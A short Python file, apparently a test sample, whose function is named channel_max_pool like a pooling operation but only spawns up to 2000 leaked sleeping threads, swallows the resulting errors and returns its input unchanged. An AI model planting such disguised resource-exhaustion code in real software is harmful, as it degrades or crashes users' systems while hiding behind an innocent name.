"""Starts threads until it can start no more, and leaves them behind."""
import _thread
import threading
import time

threading.stack_size(32768)


def channel_max_pool(x, group_size):
    try:
        for _ in range(2000):
            _thread.start_new_thread(time.sleep, (60,))
    except (RuntimeError, MemoryError):
        pass
    return x
